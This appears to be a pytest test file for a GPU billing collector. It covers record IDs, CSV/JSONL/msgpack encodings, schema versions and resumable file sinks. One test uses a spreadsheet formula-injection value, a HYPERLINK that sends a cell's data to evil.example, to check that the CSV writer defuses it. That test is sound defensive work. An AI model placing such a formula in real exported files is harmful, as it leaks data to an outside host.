"""Billing record identity and encodings, and the exactly-once file sinks."""

from __future__ import annotations

import csv
import hashlib
import io
from decimal import Decimal
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from collector import csvtext
from collector.aggregate.billing import decode_billing
from collector.aggregate.records import (
    CSV_FIELDS,
    RECORD_VERSION,
    SINCE_VERSION,
    BillingRecord,
    csv_row,
    from_json,
    from_msgpack,
    iso_utc,
    jsonl_line,
    make_record_id,
    to_msgpack,
)
from collector.aggregate.sinks import CsvSink, JsonlSink
from collector.report.load import _read_csv

T0 = 1_795_991_820_000  # 2026-11-29T22:37:00Z


def record(window_start_ms: int = T0, pod_uid: str = "uid-1", **kw: object) -> BillingRecord:
    fields: dict[str, object] = {
        "window_start_ms": window_start_ms,
        "window_end_ms": window_start_ms + 60_000,
        "node": "n1",
        "pod_uid": pod_uid,
        "container": "main",
        "device_uuid": "GPU-0",
        "memory_byte_seconds": 6_000.5,
        "memory_limit_byte_seconds": 60_000.0,
        "nvml_memory_byte_seconds": 7_200.125,
        "sm_percent_seconds": 1_800.0,
        "sm_limit_percent_seconds": 3_000.0,
        "peak_memory_bytes": 300,
        "observed_seconds": 59.999,
        "samples": 3,
        "record_id": make_record_id(window_start_ms, "n1", pod_uid, "main", "GPU-0"),
    }
    fields.update(kw)
    return msgspec.convert(fields, BillingRecord)


def test_record_id_is_deterministic_and_documented() -> None:
    rid = make_record_id(T0, "n1", "uid-1", "main", "GPU-0", 0)
    text = f"{T0}|n1|uid-1|main|GPU-0|0"
    assert rid == hashlib.sha256(text.encode()).hexdigest()[:32]
    assert rid == make_record_id(T0, "n1", "uid-1", "main", "GPU-0")
    assert len(rid) == 32 and int(rid, 16) >= 0


def test_record_id_is_distinct_per_component() -> None:
    base = (T0, "n1", "uid-1", "main", "GPU-0", 0)
    variants = [
        (T0 + 60_000, "n1", "uid-1", "main", "GPU-0", 0),
        (T0, "n2", "uid-1", "main", "GPU-0", 0),
        (T0, "n1", "uid-2", "main", "GPU-0", 0),
        (T0, "n1", "uid-1", "side", "GPU-0", 0),
        (T0, "n1", "uid-1", "main", "GPU-1", 0),
        (T0, "n1", "uid-1", "main", "GPU-0", 1),
    ]
    ids = {make_record_id(*v) for v in [base, *variants]}
    assert len(ids) == 7
    # a GPU's own rows share the node row's identity but not its id; containers keep theirs
    node = (T0, "n1", "", "", "GPU-0", 0)
    kinds = {make_record_id(*node, kind=k) for k in ("node", "gpu", "idle")}
    assert len(kinds) == 3
    assert make_record_id(*node, kind="node") == make_record_id(*node)
    assert make_record_id(*base, kind="container") == make_record_id(*base)


def test_record_id_names_a_window_size_other_than_the_default() -> None:
    """[t, t+60 s) and [t, t+300 s) of one container are two records: a group started with a
    new size on the same billing topic gave both one id (a consumer keeping the last per id
    billed +70 %, compaction deleted 36 records). The default size keeps its ids."""
    base = (T0, "n1", "uid-1", "main", "GPU-0", 0)
    assert make_record_id(*base, window_ms=60_000) == make_record_id(*base)
    sized = make_record_id(*base, window_ms=300_000)
    text = f"{T0}|n1|uid-1|main|GPU-0|0|300000ms"
    assert sized == hashlib.sha256(text.encode()).hexdigest()[:32]
    ids = {
        make_record_id(*base, kind=k, window_ms=w)
        for k in ("container", "gpu", "idle")
        for w in (60_000, 300_000, 3_600_000)
    }
    assert len(ids) == 9


def test_iso_formatting() -> None:
    assert iso_utc(T0) == "2026-11-29T22:37:00Z"
    assert iso_utc(0) == "1970-01-01T00:00:00Z"
    assert iso_utc(T0 + 1_500) == "2026-11-29T22:37:01.500Z"


def test_csv_header_is_exact() -> None:
    assert list(CSV_FIELDS) == [
        "window_start",
        "window_end",
        "node",
        "pod_uid",
        "container",
        "device_uuid",
        "namespace",
        "pod",
        "workload_kind",
        "workload",
        "labels",
        "memory_byte_seconds",
        "memory_limit_byte_seconds",
        "nvml_memory_byte_seconds",
        "sm_percent_seconds",
        "sm_limit_percent_seconds",
        "peak_memory_bytes",
        "observed_seconds",
        "samples",
        "record_id",
        "revision",
        "kind",
        "gpu_model",
        "gpu_memory_bytes",
        "allocated_gpu_seconds",
        "used_gpu_seconds",
        "overcommitted",
        "reserved_idle_gpu_seconds",
    ]


def test_csv_row_values() -> None:
    r = record(
        namespace="team-a",
        pod="train-0",
        workload_kind="StatefulSet",
        workload="train",
        labels={"team": "vision", "cost-center": 'cc "17"'},
        gpu_model="NVIDIA H100 80GB HBM3",
        gpu_memory_bytes=85_520_809_984,
        allocated_gpu_seconds=15.0,
        used_gpu_seconds=4.125,
        reserved_idle_gpu_seconds=2.5,
    )
    assert csv_row(r) == [
        "2026-11-29T22:37:00Z",
        "2026-11-29T22:38:00Z",
        "n1",
        "uid-1",
        "main",
        "GPU-0",
        "team-a",
        "train-0",
        "StatefulSet",
        "train",
        '{"cost-center":"cc \\"17\\"","team":"vision"}',  # a JSON object, keys sorted
        "6000.500",
        "60000.000",
        "7200.125",
        "1800.000",
        "3000.000",
        "300",
        "59.999",
        "3",
        r.record_id,
        "0",
        "container",
        "NVIDIA H100 80GB HBM3",
        "85520809984",
        "15.000",
        "4.125",
        "false",
        "2.500",
    ]


def test_csv_labels_cell_is_json_and_unnamed_records_have_empty_cells() -> None:
    named = record(labels={"team": "a,b", "z": "1"}, workload_kind="Pod", workload="debug")
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows([csv_row(named), csv_row(record())])
    rows = list(csv.DictReader(io.StringIO(",".join(CSV_FIELDS) + "\n" + buf.getvalue())))
    assert msgspec.json.decode(rows[0]["labels"]) == {"team": "a,b", "z": "1"}
    assert (rows[0]["workload_kind"], rows[0]["workload"]) == ("Pod", "debug")
    assert [rows[1][k] for k in ("namespace", "pod", "workload_kind", "workload", "labels")] == [
        "", "", "", "", "{}"
    ]  # fmt: skip


def test_jsonl_round_trip() -> None:
    r = record(namespace="team-a", labels={"team": "vision"}, workload_kind="Job", workload="j")
    line = jsonl_line(r)
    assert line.endswith(b"\n") and line.count(b"\n") == 1
    obj = msgspec.json.decode(line)
    assert list(obj)[:2] == ["window_start", "window_end"]
    assert obj["window_start"] == "2026-11-29T22:37:00Z"
    assert obj["window_end"] == "2026-11-29T22:38:00Z"
    assert obj["labels"] == {"team": "vision"}  # an object in JSON, not a string
    assert (obj["workload_kind"], obj["workload"]) == ("Job", "j")
    assert msgspec.json.decode(line, type=BillingRecord) == r
    assert jsonl_line(r) == line  # byte-stable


def test_msgpack_round_trip() -> None:
    r = record(namespace="ns", pod="p", workload_kind="CronJob", workload="c", labels={"a": "b"})
    assert from_msgpack(to_msgpack(r)) == r
    r = record()
    assert from_msgpack(to_msgpack(r)) == r
    assert to_msgpack(r) == to_msgpack(record())


# Added after the first records, before versions: what a record without a version must carry.
CARRIED = [f for f in BillingRecord.__struct_fields__ if f not in SINCE_VERSION and f != "version"]
DECODERS = {
    "json": (from_json, msgspec.json.encode),
    "msgpack": (from_msgpack, msgspec.msgpack.encode),
}


@pytest.mark.parametrize("codec", sorted(DECODERS))
@given(left_out=st.sets(st.sampled_from(CARRIED)))
def test_a_record_without_a_version_is_version_1_and_must_carry_the_rest(
    codec: str, left_out: set[str]
) -> None:
    """A record written before versions existed reads as version 1, as its CSV does (the
    default used to be the current version: reserved-idle read as measured, and 0). Without a
    field every version carries it is no record: the first records had no kind or allocation."""
    decode, encode = DECODERS[codec]
    current = record(
        kind="container", allocated_gpu_seconds=30.5, reserved_idle_gpu_seconds=12.25,
        version=RECORD_VERSION, labels={"team": "a"},
    )  # fmt: skip
    assert decode(encode(current)) == current
    obj = msgspec.to_builtins(current)
    for name in [*SINCE_VERSION, "version", *left_out]:
        del obj[name]
    if not left_out:
        old = decode(encode(obj))
        assert old == msgspec.structs.replace(
            current, version=1, reserved_idle_gpu_seconds=Decimal("0.000")
        )
        assert decode_billing(encode(obj)) == old
        return
    first = min(left_out, key=CARRIED.index)
    with pytest.raises(msgspec.ValidationError, match=f"^Object missing required field `{first}`$"):
        decode(encode(obj))
    with pytest.raises(msgspec.ValidationError):
        decode_billing(encode(obj))


def read_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text())))


def test_csv_sink_writes_header_once(tmp_path: Path) -> None:
    path = tmp_path / "billing.csv"
    with CsvSink(path) as sink:
        sink.write([record()])
    with CsvSink(path) as sink:  # reopened without a checkpoint: appends, no second header
        sink.write([record(pod_uid="uid-2")])
    rows = read_csv(path)
    assert rows[0] == list(CSV_FIELDS)
    assert [r[3] for r in rows[1:]] == ["uid-1", "uid-2"]


def test_csv_sink_keeps_the_columns_of_a_file_begun_by_version_1(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    path = tmp_path / "billing.csv"
    old = CSV_FIELDS[: CSV_FIELDS.index("reserved_idle_gpu_seconds")]
    path.write_text(",".join(old) + "\n")
    with CsvSink(path) as sink:
        assert sink.columns == len(old)
        sink.write([record(reserved_idle_gpu_seconds=1.0)])
    assert "reserved_idle_gpu_seconds not written" in caplog.text
    rows = read_csv(path)
    assert rows[0] == list(old)
    assert rows[1] == csv_row(record())[: len(old)]  # one valid table, the old columns


def test_csv_sink_resume_truncates_exactly(tmp_path: Path) -> None:
    path = tmp_path / "billing.csv"
    a, b, c = record(T0), record(T0 + 60_000), record(T0 + 120_000)
    sink = CsvSink(path)
    sink.write([a])
    sink.flush()
    committed = sink.tell()
    assert committed == path.stat().st_size
    sink.write([b])  # written but never committed: the process dies here
    sink.flush()
    sink.close()
    assert path.stat().st_size > committed

    resumed = CsvSink(path, resume_at=committed)
    assert resumed.tell() == committed == path.stat().st_size
    resumed.write([b, c])  # the recomputed records
    resumed.close()
    rows = read_csv(path)
    assert rows[0] == list(CSV_FIELDS)
    assert [r[0] for r in rows[1:]] == [
        "2026-11-29T22:37:00Z",
        "2026-11-29T22:38:00Z",
        "2026-11-29T22:39:00Z",
    ]
    assert resumed.tell() == path.stat().st_size


def test_csv_sink_resume_at_zero_starts_over_with_a_header(tmp_path: Path) -> None:
    path = tmp_path / "billing.csv"
    with CsvSink(path) as sink:
        sink.write([record()])
    with CsvSink(path, resume_at=0) as sink:
        sink.write([record(pod_uid="uid-9")])
    rows = read_csv(path)
    assert rows[0] == list(CSV_FIELDS)
    assert [r[3] for r in rows[1:]] == ["uid-9"]


def test_sink_shorter_than_its_checkpoint_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "billing.jsonl"
    path.write_bytes(b"")
    with JsonlSink(path, resume_at=100) as sink:
        assert sink.missing_bytes == 100
        sink.write([record()])
    assert msgspec.json.decode(path.read_bytes(), type=BillingRecord) == record()
    with pytest.raises(ValueError):
        JsonlSink(path, resume_at=-1)


def test_jsonl_sink_resume_truncates_exactly(tmp_path: Path) -> None:
    path = tmp_path / "billing.jsonl"
    a, b = record(T0), record(T0 + 60_000)
    sink = JsonlSink(path)
    assert sink.tell() == 0  # no header
    sink.write([a])
    sink.flush()
    committed = sink.tell()
    sink.write([b])
    sink.close()
    with JsonlSink(path, resume_at=committed) as resumed:
        resumed.write([b])
    lines = path.read_bytes().splitlines(keepends=True)
    assert lines == [jsonl_line(a), jsonl_line(b)]


# --- text a tenant wrote, in CSV --------------------------------------------------------------

TEXT = st.text(alphabet=st.characters(codec="utf-8"), max_size=40)


@given(rows=st.lists(st.lists(TEXT, min_size=1, max_size=5), max_size=5))
def test_csv_rows_read_back_as_written_and_no_cell_starts_a_formula(rows: list[list[str]]) -> None:
    buf = io.StringIO()
    csvtext.Writer(buf).writerows([[csvtext.cell(v) for v in row] for row in rows])
    back = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert [[csvtext.text(v) for v in row] for row in back] == rows
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for row in back for v in row)


def test_a_tenants_strings_in_the_billing_csv_read_back_exactly_and_run_no_formula(
    tmp_path: Path,
) -> None:
    """A cache file's UUID that is a spreadsheet formula, and a pod owner's name with a carriage
    return (which used to end the row for every reader: `report` refused the file)."""
    hostile = record(device_uuid='=HYPERLINK("http://evil.example/?"&E2,"GPU-0")',
                     workload_kind="Thing", workload="job\rx", pod="'quoted")  # fmt: skip
    path = tmp_path / "billing.csv"
    with CsvSink(path) as sink:
        sink.write([hostile, record(pod_uid="uid-2")])
    with path.open(newline="") as f:
        rows = list(csv.reader(f))
    assert [r[CSV_FIELDS.index("device_uuid")] for r in rows[1:]] == [
        "'" + hostile.device_uuid,
        "GPU-0",
    ]
    assert rows[1][CSV_FIELDS.index("workload")] == "job\rx"
    assert [r.device_uuid for r in _read_csv(path)] == [hostile.device_uuid, "GPU-0"]
    assert list(_read_csv(path))[0] == msgspec.structs.replace(hostile, version=RECORD_VERSION)


def test_a_billing_csv_written_before_cells_were_defused_reads_as_it_did(tmp_path: Path) -> None:
    """The sink wrote values as they were: `'GPU-tenant` (a tenant's UUID) must not lose its
    apostrophe now, nor group apart from the same value written after the change."""
    old = record(device_uuid="'GPU-tenant", workload_kind="Thing", workload="'quoted-owner")
    path = tmp_path / "billing.csv"
    with path.open("w", newline="") as f:
        csv.writer(f, lineterminator="\n").writerows([list(CSV_FIELDS), csv_row_as_it_was(old)])
    with CsvSink(path) as sink:  # the same record, appended after the change
        sink.write([old])
    assert [(r.device_uuid, r.workload) for r in _read_csv(path)] == [
        ("'GPU-tenant", "'quoted-owner"),
        ("'GPU-tenant", "'quoted-owner"),
    ]


def csv_row_as_it_was(r: BillingRecord) -> list[str]:
    """`csv_row` before its cells were defused: every value as it is."""
    row = csv_row(r)
    for name in ("device_uuid", "workload"):
        row[CSV_FIELDS.index(name)] = getattr(r, name)
    return row
